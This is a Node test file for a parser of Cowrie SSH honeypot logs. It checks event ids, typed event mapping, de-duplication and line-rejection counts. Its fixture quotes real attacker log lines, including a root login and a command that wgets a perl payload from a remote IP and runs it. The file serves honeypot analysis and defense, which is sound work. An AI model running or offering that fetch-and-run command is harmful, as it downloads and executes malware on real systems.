import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { readdirSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { readLines } from '../../test/support/read-lines.js';
import { sharedDataFile } from '../../test/support/shared-data.js';
import { cowrieEventId, createCowrieParser, parseCowrieLines } from './cowrie-parser.js';
import { rejectedCount, skippedCount } from './line-tally.js';

const NOW = Date.parse('2026-03-15T12:00:00Z');
// Shapes copied from the shared Cowrie log (kareiva/cowrie-logs, 2018-05-20), addresses kept.
const SESSION = [
  '{"eventid": "cowrie.session.connect", "src_ip": "194.63.141.141", "src_port": 47730, "timestamp": "2018-05-20T00:27:13.000000Z", "dst_ip": "172.17.0.3", "system": "cowrie.ssh.factory.CowrieSSHFactory", "protocol": "ssh", "session": "4cd317f4a5d9", "dst_port": 2222, "sensor": "920497a79896"}',
  '{"eventid": "cowrie.client.version", "session": "4cd317f4a5d9", "src_ip": "194.63.141.141", "version": "SSH-2.0-OpenSSH_7.3", "sensor": "920497a79896", "timestamp": "2018-05-20T00:27:13.100000Z"}',
  '{"eventid": "cowrie.login.success", "username": "root", "timestamp": "2018-05-20T00:27:14.192456Z", "src_ip": "194.63.141.141", "session": "4cd317f4a5d9", "password": "ye8Ae2eCrew", "sensor": "920497a79896"}',
  '{"eventid": "cowrie.direct-tcpip.request", "timestamp": "2018-05-20T00:27:23.792426Z", "dst_ip": "54.86.136.139", "src_ip": "194.63.141.141", "session": "4cd317f4a5d9", "dst_port": 80, "src_port": 47730, "sensor": "920497a79896"}',
  '{"eventid": "cowrie.command.input", "timestamp": "2018-05-20T00:27:30.000000Z", "src_ip": "194.63.141.141", "session": "4cd317f4a5d9", "input": "uname -a; wget http://54.37.72.170/n3; perl n3", "sensor": "920497a79896"}',
  '{"eventid": "cowrie.command.failed", "timestamp": "2018-05-20T00:27:30.100000Z", "src_ip": "194.63.141.141", "session": "4cd317f4a5d9", "input": "perl n3", "sensor": "920497a79896"}',
  '{"eventid": "cowrie.session.file_download", "shasum": "3BE56C3E5CC12387B3857B841CEA6341494B572811617E47DF6DBF160B5CA866", "url": "http://54.37.72.170/n3", "timestamp": "2018-05-20T00:27:31.000000Z", "src_ip": "194.63.141.141", "session": "4cd317f4a5d9", "sensor": "920497a79896"}',
  '{"eventid": "cowrie.session.closed", "timestamp": "2018-05-20T00:27:40.000000Z", "src_ip": "194.63.141.141", "duration": 27.5, "session": "4cd317f4a5d9", "sensor": "920497a79896"}',
];

describe('Cowrie parser', () => {
  it('keeps the event ids of earlier versions (SHA-256 of session, timestamp, eventid and line)', () => {
    // Ids already stored de-duplicate re-imports: they must never change. Non-ASCII text included.
    for (const line of [
      '{"eventid":"cowrie.session.connect"}',
      '{"input":"echo \u00e9\u4e2d \ud83d\ude00"}',
      '',
    ]) {
      const digest = createHash('sha256')
        .update(`abc123\n2018-05-01T10:00:00.123Z\ncowrie.command.input\n${line}`)
        .digest('hex');
      assert.equal(
        cowrieEventId('abc123', '2018-05-01T10:00:00.123Z', 'cowrie.command.input', line),
        `cowrie-${digest.slice(0, 40)}`,
      );
    }
    assert.equal(
      cowrieEventId('s', 't', 'e', 'x'),
      `cowrie-${createHash('sha256').update('s\nt\ne\nx').digest('hex').slice(0, 40)}`,
    );
  });

  it('maps a session to typed events that inherit the ports and protocol of the connect line', () => {
    const parser = createCowrieParser({ now: NOW });
    const events = SESSION.map((line) => parser.push(line)).filter((event) => event !== null);
    assert.deepEqual(
      events.map((event) => event.type),
      ['connect', 'auth', 'tunnel', 'command', 'download', 'disconnect'],
    );
    for (const event of events) {
      assert.equal(event.srcPort, 47730);
      assert.equal(event.dstPort, 2222);
      assert.equal(event.protocol, 'ssh');
      assert.equal(event.sensor, '920497a79896');
      assert.equal(event.srcIp, '194.63.141.141');
    }
    const [connect, auth, tunnel, , download, disconnect] = events;
    assert.equal(connect?.ts, Date.parse('2018-05-20T00:27:13Z'));
    assert.ok(auth?.type === 'auth' && auth.success && auth.password === 'ye8Ae2eCrew');
    assert.ok(tunnel?.type === 'tunnel' && tunnel.targetHost === '54.86.136.139' && tunnel.targetPort === 80);
    assert.ok(download?.type === 'download' && download.sha256?.startsWith('3be56c3e'));
    assert.ok(disconnect?.type === 'disconnect' && disconnect.durationMs === 27500);
    assert.equal(parser.tally.skipped.client_metadata?.count, 1);
    assert.equal(parser.tally.skipped.duplicate_of_command_input?.count, 1);
  });

  it('gives the same line the same id, so a re-import de-duplicates', () => {
    const first = createCowrieParser({ now: NOW }).push(SESSION[2] ?? '');
    const second = createCowrieParser({ now: NOW }).push(SESSION[2] ?? '');
    assert.ok(first && second);
    assert.equal(first.id, second.id);
    const other = createCowrieParser({ now: NOW }).push(SESSION[4] ?? '');
    assert.notEqual(other?.id, first.id);
  });

  it('counts bad lines by reason and unknown event ids as skipped', () => {
    const parser = createCowrieParser({ now: NOW, maxAgeMs: 30 * 86_400_000 });
    const lines = [
      'not json',
      '[1,2]',
      '{"eventid": "cowrie.login.failed", "timestamp": "2018-05-20T00:00:00Z"}',
      '{"eventid": "cowrie.login.failed", "session": "a", "timestamp": "2026-03-15T11:00:00Z", "src_ip": "10.0.0.5", "username": "u", "password": "p"}',
      '{"eventid": "cowrie.login.failed", "session": "a", "timestamp": "2026-03-15T11:00:00Z", "src_ip": "1..2.3", "username": "u", "password": "p"}',
      '{"eventid": "cowrie.login.failed", "session": "a", "timestamp": "2018-05-20T00:00:00Z", "src_ip": "45.83.12.40", "username": "u", "password": "p"}',
      '{"eventid": "cowrie.login.failed", "session": "a", "timestamp": "2027-01-01T00:00:00Z", "src_ip": "45.83.12.40", "username": "u", "password": "p"}',
      '{"eventid": "cowrie.login.failed", "session": "a", "timestamp": "yesterday", "src_ip": "45.83.12.40"}',
      '{"eventid": "cowrie.future.thing", "session": "a", "timestamp": "2026-03-15T11:00:00Z", "src_ip": "45.83.12.40"}',
      '{"eventid": "cowrie.login.failed", "session": "a", "timestamp": "2026-03-15T11:00:00Z", "src_ip": "45.83.12.40", "username": "u", "password": "p"}',
      '',
    ];
    for (const line of lines) parser.push(line);
    const reasons = Object.fromEntries(Object.entries(parser.tally.rejected).map(([k, v]) => [k, v.lines]));
    assert.deepEqual(reasons, {
      invalid_json: [1],
      not_an_object: [2],
      missing_field: [3],
      non_public_ip: [4],
      invalid_ip: [5],
      too_old: [6],
      in_future: [7],
      invalid_timestamp: [8],
    });
    assert.deepEqual(parser.tally.skipped.unknown_eventid?.lines, [9]);
    assert.equal(parser.tally.accepted, 1);
    assert.equal(parser.tally.ignored, 1);
  });

  it('reads the whole shared Cowrie log without crashing and accounts for every line', async (t) => {
    const dir = sharedDataFile('honeypot', 'cowrie');
    if (dir === null) return t.skip('shared data not found (honeypot/cowrie)');
    const parser = createCowrieParser({ now: Date.now(), defaultSensor: 'cowrie' });
    const types = new Map<string, number>();
    for (const name of readdirSync(dir).filter((file) => file.endsWith('.gz'))) {
      for await (const event of parseCowrieLines(readLines(join(dir, name)), parser)) {
        types.set(event.type, (types.get(event.type) ?? 0) + 1);
      }
    }
    const { tally } = parser;
    assert.equal(tally.lines, tally.accepted + tally.ignored + skippedCount(tally) + rejectedCount(tally));
    assert.ok((types.get('auth') ?? 0) > 10_000);
    assert.ok((types.get('download') ?? 0) > 10);
    assert.ok((types.get('tunnel') ?? 0) > 10_000);
    assert.equal(tally.skipped.unknown_eventid, undefined, 'every eventid in the shared log is known');
  });
});
